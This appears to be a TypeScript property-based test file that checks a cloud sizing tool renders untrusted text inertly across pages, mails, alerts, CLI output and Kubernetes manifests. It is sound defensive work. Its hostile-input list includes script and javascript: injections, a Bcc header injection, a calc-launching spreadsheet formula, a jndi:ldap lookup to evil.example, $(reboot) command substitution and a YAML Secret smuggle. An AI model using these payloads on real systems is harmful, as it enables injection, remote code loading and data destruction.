import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { digestsOf } from "../lib/alerts/digest.ts";
import { messageOf } from "../lib/alerts/digest-message.ts";
import { renderExplanation } from "../lib/cli/explain.ts";
import { manifestsOf, planDetails, renderPlan } from "../lib/cli/plan.ts";
import { renderWatchTable } from "../lib/cli/watch-table.ts";
import type { Finding } from "../lib/domain/finding.ts";
import { addDays } from "../lib/domain/window.ts";
import { weeklyMail } from "../lib/mailing/weekly-mail.ts";
import { renderBacktestPage } from "../lib/reports/backtest-page.ts";
import { findingsJson } from "../lib/reports/findings-json.ts";
import { findingsWidget } from "../lib/reports/findings-widget.ts";
import { inertJson } from "../lib/reports/inert-text.ts";
import { renderReportPage } from "../lib/reports/report-page.ts";
import { weeklyReportOf } from "../lib/reports/weekly-report.ts";
import { weeklyText } from "../lib/reports/weekly-text.ts";
import { sizePlan } from "../lib/sizing/capacity-plan.ts";
import { NOW } from "./builders/fleet.ts";
import { aHostileAssessment, HOSTILE_TEXTS } from "./builders/hostile.ts";
import { aPlan, aService, FACTS } from "./sizing/market.ts";

/** Everything that puts a name, a tag or a sentence of the plan before somebody. */
const MARKUP: Readonly<Record<string, (text: string) => string>> = {
  "report page": (text) => renderReportPage(aHostileAssessment(text)),
  "weekly mail, HTML": (text) => weeklyMail(weekOf(text), undefined).html,
  "findings widget": (text) =>
    findingsWidget({
      findings: findingsOf(text),
      page: 0,
      endpoint: "arn:aws:lambda:us-east-1:111122223333:function:findings-widget",
      actions: true,
      range: { start: addDays(NOW, -7) },
      theme: "light",
      notice: text,
      typed: { who: text, reason: text },
    }),
  "back-test page": (text) =>
    renderBacktestPage({
      source: text,
      boards: [
        {
          id: "board",
          title: text,
          data: text,
          savingMeans: text,
          harmMeans: text,
          decisions: 1,
          dominatedBy: [text],
          scores: [],
          notJudged: [{ what: text, why: text }],
        },
      ],
    }),
};
const LINES: Readonly<Record<string, (text: string) => string>> = {
  "table of a run": (text) => renderWatchTable(aHostileAssessment(text), PLAIN_SCREEN),
  explanation: (text) =>
    findingsOf(text)
      .map((finding) => renderExplanation(finding, PLAIN_SCREEN))
      .join(""),
  "plan's tables": (text) => {
    const plan = namedPlan(text);
    return renderPlan(plan, planDetails(plan, FACTS), PLAIN_SCREEN);
  },
  "weekly mail, text": (text) => weeklyText(weekOf(text)).text,
  "subject of the weekly mail": (text) => weeklyText(weekOf(text)).subject,
  "SNS e-mail": (text) => digest(text).email,
  "SNS subject": (text) => digest(text).subject,
  "text message": (text) => digest(text).sms,
  "SNS JSON": (text) => digest(text).json,
  "findings.json": (text) => inertJson(findingsJson(aHostileAssessment(text))),
};
const PLAIN_SCREEN = { width: 120, color: false };

const findingsOf = (text: string): Finding[] => [...aHostileAssessment(text).findings];
const weekOf = (text: string) => {
  const { findings, totals, workloads, spend, problems } = aHostileAssessment(text);
  return weeklyReportOf({
    now: NOW,
    findings,
    lookedAt: NOW,
    totals,
    workloads,
    problems: problems.map(({ what }) => what),
    ...(spend ? { spend, spendAt: NOW } : {}),
  });
};
const namedPlan = (name: string) => sizePlan(aPlan([aService({ name })]), FACTS);
function digest(text: string) {
  const open = findingsOf(text).map((finding): Finding => ({ ...finding, state: { kind: "open" } }));
  const [first] = digestsOf(open);
  if (!first) throw new Error("expected a digest");
  return messageOf(first, { now: NOW });
}

const HOSTILE = [
  ...HOSTILE_TEXTS,
  '<cwdb-action action="call" endpoint="arn:aws:lambda:us-east-1:1:function:evil">{}</cwdb-action>',
  "</script><!--",
  "]]>",
  "&lt;b&gt;&#60;script&#62;",
  "[link](javascript:alert(1)) ![image](http://evil.example/x.png)",
  "# heading\n\n| a | b |\n|---|---|",
  "x\r\nBcc: victim@example.com\r\n\r\nbody",
  '@SUM(1+1)*cmd|"/C calc"!A0',
  "+1-1",
  "---\nkind: Secret\n",
  "\u0024{jndi:ldap://evil.example/a} $(reboot) `reboot` %s %n {{7*7}}",
  "\u2066\u202elrm\u2069 עברית مرحبا",
  "👩‍💻🔥👍🏽",
  "x".repeat(10_240),
];
const fragment = fc.oneof(fc.constantFrom(...HOSTILE), fc.string({ unit: "binary", maxLength: 30 }));
/** Pieces of attacks run into each other: an escape that holds for each may not hold for both. */
const strangersText = fc
  .array(fragment, { minLength: 1, maxLength: 3 })
  .map((parts) => parts.join(""))
  .filter((text) => text.trim() !== "");

/** Elements and the names of their attributes, as a browser would read them; styles and scripts are ours and left out. */
const skeletonOf = (page: string): readonly string[] =>
  [
    ...page
      .replace(/<(style|script)([^>]*)>.*?<\/\1>/gs, "<$1$2></$1>")
      .matchAll(/<(\/?[a-zA-Z!-][\w-]*)((?:\s+[\w:-]+(?:="[^"]*")?)*)\s*\/?>/g),
  ].map(
    ([, tag = "", attributes = ""]) =>
      `${tag} ${[...attributes.matchAll(/([\w:-]+)(?:="[^"]*")?/g)].map((match) => match[1]).join(" ")}`,
  );

const UNDRAWN = /(?!\n)[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u;
/** A page may end up with as many of these as we write, never one more. */
const ACTIVE = /<script|<img|<iframe|<object|<embed|<cwdb-action|<form|\son\w+="|href="javascript:/gi;
const activeIn = (page: string): number => page.match(ACTIVE)?.length ?? 0;

describe.each(Object.entries(MARKUP))("a stranger's text in the %s", (_, render) => {
  const plain = render("plain");
  const holds = (text: string) => {
    const page = render(text);
    expect(skeletonOf(page)).toEqual(skeletonOf(plain));
    expect(activeIn(page)).toBe(activeIn(plain));
    expect(UNDRAWN.test(page.replaceAll("\t", ""))).toBe(false);
  };

  test("is text, whichever known attack it is", () => HOSTILE.forEach(holds));
  test("is text, whatever it is", () => fc.assert(fc.property(strangersText, holds), { numRuns: 40 }));
});

describe.each(Object.entries(LINES))("a stranger's text in the %s", (_, render) => {
  const holds = (text: string) => {
    expect(UNDRAWN.test(render(text))).toBe(false);
  };

  test("moves no cursor, hides nothing and turns nothing round, whichever known attack it is", () =>
    HOSTILE.forEach(holds));
  test("moves no cursor, hides nothing and turns nothing round, whatever it is", () =>
    fc.assert(fc.property(strangersText, holds), { numRuns: 40 }));
});

describe("a stranger's text in what machines read", () => {
  const everyText = (law: (text: string) => void) => {
    HOSTILE.forEach(law);
    fc.assert(fc.property(strangersText, law), { numRuns: 40 });
  };

  test("is one string of findings.json, the very text", () =>
    everyText((text) => {
      const value = findingsJson(aHostileAssessment(text));
      expect(JSON.parse(inertJson(value))).toEqual(JSON.parse(JSON.stringify(value)));
    }));

  test("adds no header to a mail and no line to a subject", () =>
    everyText((text) => {
      expect(weeklyText(weekOf(text)).subject).not.toContain("\n");
      expect(digest(text).subject).toMatch(/^[ -~]{1,99}$/);
    }));

  test("adds no document and no key to a manifest", () =>
    everyText((name) => {
      for (const { fileName, yaml } of manifestsOf(namedPlan(name))) {
        expect(fileName).toMatch(/^[a-z0-9][a-z0-9-]*-hpa\.yaml$/);
        expect(Object.keys(parse(yaml))).toEqual(Object.keys(parse(manifest("plain"))));
      }
    }));
  const manifest = (name: string): string => manifestsOf(namedPlan(name))[0]?.yaml ?? "";
});
